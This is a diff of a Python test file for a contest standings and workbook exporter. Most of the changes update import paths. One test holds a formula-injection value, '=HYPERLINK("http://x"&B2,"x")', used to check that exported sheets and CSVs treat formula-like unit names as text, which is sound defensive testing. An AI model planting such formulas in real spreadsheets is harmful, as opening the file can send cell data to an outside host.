@@ -10,9 +10,9 @@ from datetime import datetime
 
 from openpyxl import load_workbook
 
-from contest.close_reports import STANDINGS_HEADER, final_workbook, standings_csv, units_csv, week_workbook
-from contest.publication import week_review
-from contest.ranking import RankingRules, aggregate_units, rank_final_units, rank_week
+from contest.close.reports import STANDINGS_HEADER, final_workbook, standings_csv, units_csv, week_workbook
+from contest.rules.publication import week_review
+from contest.rules.ranking import RankingRules, aggregate_units, rank_final_units, rank_week
 from tests.unit.test_publication import CONTEST, UNITS, people
 
 FIXED = datetime(2023, 10, 22, 13, 0, 0)
@@ -63,7 +63,7 @@ def test_final_workbook_repeats_too():
 
 def test_every_sheet_and_csv_holds_formula_like_unit_names_as_text():
     # Given a unit whose name (from the organisers' content) starts like a formula
-    from contest.model import Unit
+    from contest.rules.model import Unit
 
     hostile = '=HYPERLINK("http://x"&B2,"x")'
     units_in = (Unit("u1", hostile, "g", 50), UNITS[1])
